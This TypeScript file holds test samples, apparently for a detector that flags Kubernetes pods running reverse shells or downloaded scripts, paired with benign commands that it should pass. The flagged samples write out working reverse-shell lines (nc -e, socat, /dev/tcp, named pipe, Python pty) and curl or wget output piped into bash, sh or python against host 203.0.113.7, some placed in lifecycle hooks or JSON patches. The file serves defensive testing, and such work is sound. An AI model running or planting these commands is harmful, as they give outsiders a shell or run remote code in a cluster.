import type { Sample } from "../sample.ts";
import { type Envelope, hit, miss, pod } from "../variants.ts";
import { jsonPatch, onSpec, withContainer } from "./on-spec.ts";

const script = (text: string) => ["sh", "-c", text];

const attacks: readonly (readonly [string, readonly string[], string, Envelope?])[] = [
  ["bash -i as a list", ["bash", "-i"], "an interactive shell that nobody sits at", "EKS"],
  ["nc -e as a list", ["nc", "203.0.113.7", "4444", "-e", "/bin/sh"], "a shell to somebody outside", "AKS"],
  ["nc -e in a script", script("while true; do nc -e /bin/bash 203.0.113.7 4444; done"), "a shell to somebody outside"],
  ["nc in the second line", script("set -e\nncat --exec /bin/sh 203.0.113.7 4444"), "a shell to somebody outside"],
  [
    "named pipe",
    script("mkfifo /tmp/f; cat /tmp/f | sh 2>&1 | nc 203.0.113.7 4444 > /tmp/f"),
    "a shell to somebody outside",
  ],
  ["socat", ["socat", "TCP:203.0.113.7:4444", "exec:'bash -li',pty"], "a shell to somebody outside"],
  [
    "Python",
    ["python3", "-c", 'import socket,os,pty;s=socket.socket();pty.spawn("sh")'],
    "a shell to somebody outside",
  ],
  ["curl into a shell", script("curl -fsSL https://203.0.113.7/x.sh | bash"), "what runs is decided elsewhere", "GKE"],
  [
    "curl with a header into a shell",
    script('curl -H "X: y" http://203.0.113.7/x | sudo /bin/sh'),
    "decided elsewhere",
  ],
  ["curl into Python", script("curl -s http://203.0.113.7/x.py | python3 -"), "decided elsewhere"],
  ["curl over two lines", script("curl -s http://203.0.113.7/x \\\n  | bash"), "decided elsewhere"],
  ["wget into a shell, second line", script("cd /tmp\nwget -qO- http://203.0.113.7/x | sh"), "decided elsewhere"],
  ["download inside of eval", script("eval $(curl -s http://203.0.113.7/x)"), "decided elsewhere"],
  ["process substitution", script("bash <(curl -s http://203.0.113.7/x)"), "decided elsewhere"],
  ["decoded into a shell", script("echo aWQ= | base64 -d | sh"), "what runs is hidden"],
  ["decoded into Python", script("echo aWQ= | base64 --decode | python3"), "what runs is hidden"],
  [
    "downloaded, made executable, run",
    script("wget http://203.0.113.7/x -O /tmp/x; chmod +x /tmp/x; /tmp/x"),
    "decided elsewhere",
  ],
];

const ordinary: readonly (readonly [string, readonly string[], string])[] = [
  ["a server", ["nginx", "-g", "daemon off;"], "it serves"],
  ["a shell without terminal", ["bash", "-c", "exec /app/start"], "an ordinary start script"],
  ["health check", script("curl -fsS http://localhost:8080/healthz || exit 1"), "nothing that comes is run"],
  ["download to a file", script("curl -fsSLo /plugins/p.jar https://example.com/p.jar"), "nothing that comes is run"],
  ["download into tar", script("curl -fsSL https://example.com/x.tgz | tar xz"), "it is unpacked only"],
  ["download into jq", script("curl -s https://example.com/x | jq .name"), "it is read only"],
  ["wait for a port", script("until nc -z db 5432; do sleep 1; done"), "it only tries a port"],
  ["wait for a port by name", script("nc -zv -w 5 ecommerce 443 && sh /app/start"), "it only tries a port"],
  ["download into a formatter", script("curl -s https://example.com/x | python3 -m json.tool"), "it is read only"],
  [
    "download, then a script of its own",
    script("curl -fsSLo /d https://example.com/d; cat /app/x | sh"),
    "not what comes",
  ],
  [
    "wait for a port, then a shell",
    script("until nc -z db 5432; do sleep 1; done; exec bash -c sh"),
    "not for the port",
  ],
  ["key of SSH", ["ssh", "-i", "/keys/id", "db"], "no interactive shell"],
  ["decoded to a file", script("echo $CONF | base64 -d > /etc/app/conf"), "nothing of it is run"],
  ["decoded, then a shell", script("echo $CONF | base64 -d > /tmp/c; cat /tmp/c | shasum"), "shasum is no shell"],
];

export const podRunsAReverseShellOrADownloadedScript: readonly Sample[] = [
  ...onSpec(
    "bash to /dev/tcp",
    withContainer({ command: ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"] }),
    "a shell to somebody outside",
  ),
  hit(
    "in a hook of the life cycle",
    pod(withContainer({ lifecycle: { postStart: { exec: { command: script("curl http://203.0.113.7 | sh") } } } })),
    "hooks run commands, too",
  ),
  hit(
    "by JSON patch",
    jsonPatch("/containers/0/args", script("curl http://203.0.113.7 | sh"), "replace"),
    "it is the command now",
  ),
  ...attacks.map(([name, command, because, envelope]) => hit(name, pod(withContainer({ command })), because, envelope)),
  ...ordinary.map(([name, command, because]) => miss(name, pod(withContainer({ command })), because)),
];
